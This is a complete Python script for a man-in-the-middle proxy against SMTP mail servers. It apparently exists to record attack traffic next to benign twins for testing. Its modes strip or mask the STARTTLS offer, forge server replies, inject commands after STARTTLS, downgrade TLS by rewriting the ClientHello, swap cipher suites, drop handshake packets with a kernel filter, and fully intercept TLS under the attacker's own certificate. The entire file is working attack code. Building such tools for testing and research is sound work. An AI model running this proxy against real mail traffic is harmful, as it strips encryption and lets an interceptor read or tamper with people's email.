#!/usr/bin/env python3
"""The man in the middle of the recorded attacks: takes connections on an address that is not his, and talks to the
real server beside it.

usage: mitm.py MODE LISTEN PORT SERVER [CERT.PEM [MAXVERSION]]

Each mode alters one thing only; everything else goes through octet by octet, so that a capture and its benign twin
differ in that thing alone. Python 3 standard library; one thread for each direction."""
import ctypes
import re
import socket
import ssl
import struct
import sys
import threading
import time

MODES = ("strip", "mask", "refuse454", "ehlo502", "rewrite", "answer-clear", "intercept", "downgrade",
         # what becomes of the handshake, after an honest 220
         "reset", "close", "stall", "alert", "late454", "lossy",
         # 220 without the server, and on in clear
         "forge220",
         # words altered
         "mask8bit", "mangle", "stars", "truncate", "poison", "noop", "disown", "greeting-line", "offer-requiretls",
         "rewrite-echo", "rewrite-ehlo",
         # octets added, or altered inside the handshake
         "inject-command", "inject-response", "multi220", "alert-first", "swap-suites", "pass", "slow")
HANDSHAKE_FAILURE = b"\x15\x03\x03\x00\x02\x02\x28"  # a fatal alert
SPOIL = ("reset", "close", "stall", "alert", "late454")
DROPS = ("stall", "lossy")


def lines(sock):
    """Reads CRLF lines, one octet at a time: nothing behind a line may be swallowed, for TLS may follow."""
    line = b""
    while True:
        octet = sock.recv(1)
        if not octet:
            if line:
                yield line
            return
        line += octet
        if octet == b"\n":
            yield line
            line = b""


def octets(sock, n):
    """Exactly n octets, or fewer at the end of the stream."""
    got = b""
    while len(got) < n:
        more = sock.recv(n - len(got))
        if not more:
            break
        got += more
    return got


def reply(server_lines):
    """One whole reply of the server, as a list of lines; empty at the end of the stream."""
    got = []
    for line in server_lines:
        got.append(line)
        if line[3:4] != b"-":
            break
    return got


def without_starttls(got):
    """The reply without the STARTTLS line; the line before it becomes the last if STARTTLS was."""
    kept = [x for x in got if x[4:].strip().upper() != b"STARTTLS"]
    if len(kept) < len(got) and kept:
        kept[-1] = kept[-1][:3] + b" " + kept[-1][4:]
    return kept


def pump(source, sink, change=None):
    """Copies octets until the end of the source; the first chunk may be changed."""
    try:
        while True:
            data = source.recv(65536)
            if not data:
                break
            if change:
                data, change = change(data), None
            sink.sendall(data)
    except OSError:
        pass
    for s, how in ((sink, socket.SHUT_WR), (source, socket.SHUT_RD)):
        try:
            socket.socket.shutdown(s, how)  # the TCP level, also of a TLS socket
        except OSError:
            pass


def both_ways(client, server, change=None):
    back = threading.Thread(target=pump, args=(server, client), daemon=True)
    back.start()
    pump(client, server, change)
    back.join(10)


def hide_tls13(hello):
    """A ClientHello whose supported_versions names no TLS 1.3: 0x0304 becomes a reserved value (RFC 8701), same
    length. An honest server then answers with TLS 1.2 and the sentinel of RFC 8446 4.1.3."""
    at = hello.find(b"\x00\x2b\x00")
    if at < 0:
        return hello
    end = at + 4 + int.from_bytes(hello[at + 2:at + 4], "big")
    body = bytearray(hello[at + 5:end])
    for i in range(0, len(body) - 1, 2):
        if body[i:i + 2] == b"\x03\x04":
            body[i:i + 2] = b"\x0a\x0a"
    return hello[:at + 5] + bytes(body) + hello[end:]


def swap_suites(hello):
    """A ClientHello with every suite replaced by TLS_RSA_WITH_AES_256_GCM_SHA384, same length."""
    at = 5 + 4 + 2 + 32  # record and handshake headers, version, random
    at += 1 + hello[at]
    n = int.from_bytes(hello[at:at + 2], "big")
    return hello[:at + 2] + b"\x00\x9d" * (n // 2) + hello[at + 2 + n:]


CHANGES = {"downgrade": hide_tls13, "swap-suites": swap_suites}


def intercept(client, server, cert, highest):
    """TLS with the client under a certificate of the attacker's own, TLS with the server as any client."""
    ours = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    ours.load_cert_chain(cert)
    ours.maximum_version = highest
    ours.options |= ssl.OP_NO_TICKET
    theirs = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    theirs.check_hostname = False
    theirs.verify_mode = ssl.CERT_NONE
    try:
        c = ours.wrap_socket(client, server_side=True)
        s = theirs.wrap_socket(server)
    except OSError:
        return
    both_ways(c, s)
    c.close()
    s.close()


def drop_tls_records(sock):
    """The kernel drops every segment to this socket whose payload begins with a TLS handshake record; all else passes.
    Classic BPF over the TCP header (SO_ATTACH_FILTER): X = header length; payload[0] == 0x16 -> drop."""
    program = ((0x30, 0, 0, 12), (0x54, 0, 0, 0xF0), (0x74, 0, 0, 2), (0x07, 0, 0, 0),  # X = (tcp[12] & 0xf0) >> 2
               (0x80, 0, 0, 0), (0x2D, 0, 2, 0),                                         # A = length; A > X?
               (0x50, 0, 0, 0), (0x15, 1, 0, 0x16),                                      # A = payload[0]; handshake?
               (0x06, 0, 0, 0xFFFFFFFF), (0x06, 0, 0, 0))                                # pass; drop
    code = b"".join(struct.pack("=HBBI", *line) for line in program)
    buffer = ctypes.create_string_buffer(code, len(code))
    sock.setsockopt(socket.SOL_SOCKET, 26, struct.pack("@HP", len(program), ctypes.addressof(buffer)))


def reset(sock):
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    sock.close()


def spoil(mode, client):
    """After the 220: the handshake does not come about."""
    if mode == "stall":
        time.sleep(300)
        return
    client.recv(65536)
    if mode == "reset":
        reset(client)
    elif mode == "alert":
        client.sendall(HANDSHAKE_FAILURE)
    elif mode == "late454":
        client.sendall(b"454 4.7.0 TLS not available: cannot load the certificate\r\n")
        client.settimeout(3)
        client.recv(65536)


def altered(mode, got):
    """The reply to EHLO with one thing changed."""
    if mode == "strip":
        return without_starttls(got)
    if mode == "mask":
        return [re.sub(rb"(?i)STARTTLS", b"XXXXXXXA", x) for x in got]
    if mode == "mask8bit":
        return [x.replace(b"8BITMIME", b"XXXXXXXA") for x in got]
    if mode == "mangle":
        return [re.sub(rb"(?i)STARTTLS", b"********", x) for x in got]
    if mode == "poison":
        return [re.sub(rb"(?i)STARTTLS", b"STARTTLSX", x) for x in got]
    if mode == "truncate":  # the line before STARTTLS becomes the last of its reply
        at = [x[4:].strip().upper() for x in got].index(b"STARTTLS") - 1
        return got[:at] + [got[at][:3] + b" " + got[at][4:]] + got[at + 1:]
    if mode == "greeting-line":
        return [got[0].rstrip() + b" STARTTLS\r\n"] + without_starttls(got)[1:]
    if mode == "offer-requiretls":
        return got[:1] + [b"250-REQUIRETLS\r\n"] + got[1:]
    return got


def own_answer(mode, verb, client):
    """True if the attacker answered the command himself."""
    if mode == "ehlo502" and verb.startswith(b"EHLO"):
        client.sendall(b"502 5.5.2 Error: command not recognized\r\n")
    elif mode == "refuse454" and verb == b"STARTTLS":
        client.sendall(b"454 4.7.0 TLS not available due to local problem\r\n")
    elif mode == "disown" and verb == b"STARTTLS":
        client.sendall(b"502 5.5.2 Error: command not recognized\r\n")
    elif mode == "forge220" and verb == b"STARTTLS":
        client.sendall(b"220 2.0.0 Ready to start TLS\r\n")
    elif mode == "answer-clear" and verb == b"STARTTLS":
        client.sendall(b"220 2.0.0 Ready to start TLS\r\n")
        client.recv(65536)
        client.sendall(b"500 5.5.1 Command unrecognized\r\n")
    else:
        return False
    return True


def dialogue(mode, client, server, cert, highest):
    from_client, from_server = lines(client), lines(server)
    greeting = b"".join(reply(from_server))
    if mode == "stars":
        greeting = greeting[:4] + re.sub(rb"[^ 20\r\n]", b"*", greeting[4:])
    client.sendall(greeting)
    for command in from_client:
        verb = command.strip().upper()
        if own_answer(mode, verb, client):
            continue
        if verb == b"STARTTLS" and mode in ("rewrite", "rewrite-echo"):
            command = re.sub(rb"\S", b"X", command)
        if verb.startswith(b"EHLO") and mode == "rewrite-ehlo":
            command = b"XXXX" + command[4:]
        if verb == b"STARTTLS" and mode == "inject-command":
            command += b"RSET\r\n"
        if verb.startswith(b"BDAT "):
            command += octets(client, int(verb.split()[1]))
        if verb == b"STARTTLS" and mode == "noop":
            command = b"NOOP\r\n"
        server.sendall(command)
        got = reply(from_server)
        if verb.startswith(b"EHLO"):
            got = altered(mode, got)
        if mode == "slow" and verb[:4] in (b"EHLO", b"STAR"):
            time.sleep(0.1)
        if verb == b"STARTTLS" and mode == "rewrite-echo":  # in the words of Sendmail
            got = [b"500 5.5.1 Command unrecognized: \"" + command.strip() + b"\"\r\n"]
        if verb == b"STARTTLS" and mode == "inject-response":
            got += [b"250-mx.charlie.net\r\n", b"250 AUTH PLAIN\r\n"]
        if verb == b"STARTTLS" and mode == "multi220":
            got = [b"220-2.0.0 A notice in two lines:\r\n"] + got
        if verb == b"STARTTLS" and mode in DROPS:
            drop_tls_records(client)
        client.sendall(b"".join(got))
        if not got or verb == b"QUIT":
            return
        if verb == b"STARTTLS" and got[0][:3] == b"220":
            if mode in SPOIL:
                spoil(mode, client)
            elif mode == "intercept":
                intercept(client, server, cert, highest)
            else:
                if mode == "lossy":  # the ClientHello and its first copy are lost, then the line is good again
                    time.sleep(0.5)
                    client.setsockopt(socket.SOL_SOCKET, 27, 0)  # SO_DETACH_FILTER
                if mode == "alert-first":  # one packet of the attacker's; the server goes on behind it
                    hello = client.recv(65536)
                    client.sendall(HANDSHAKE_FAILURE)
                    server.sendall(hello)
                if mode == "slow":
                    time.sleep(0.1)
                both_ways(client, server, CHANGES.get(mode))
            return
        if verb == b"DATA" and got[0][:3] == b"354":
            for text in from_client:
                server.sendall(text)
                if text == b".\r\n":
                    break
            client.sendall(b"".join(reply(from_server)))


def serve(mode, client, where, port, cert, highest):
    try:
        server = socket.create_connection((where, port), timeout=30)
        dialogue(mode, client, server, cert, highest)
        server.close()
    except OSError:
        pass
    client.close()


def main():
    if len(sys.argv) < 5 or sys.argv[1] not in MODES:
        print(__doc__, file=sys.stderr)
        return 2
    mode, listen, port, where = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
    cert = sys.argv[5] if len(sys.argv) > 5 else None
    highest = ssl.TLSVersion.TLSv1_2 if sys.argv[6:] == ["1.2"] else ssl.TLSVersion.TLSv1_3
    door = socket.create_server((listen, port), family=socket.AF_INET6 if ":" in listen else socket.AF_INET)
    while True:
        client, _ = door.accept()
        client.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        threading.Thread(target=serve, args=(mode, client, where, port, cert, highest), daemon=True).start()


if __name__ == "__main__":
    sys.exit(main())
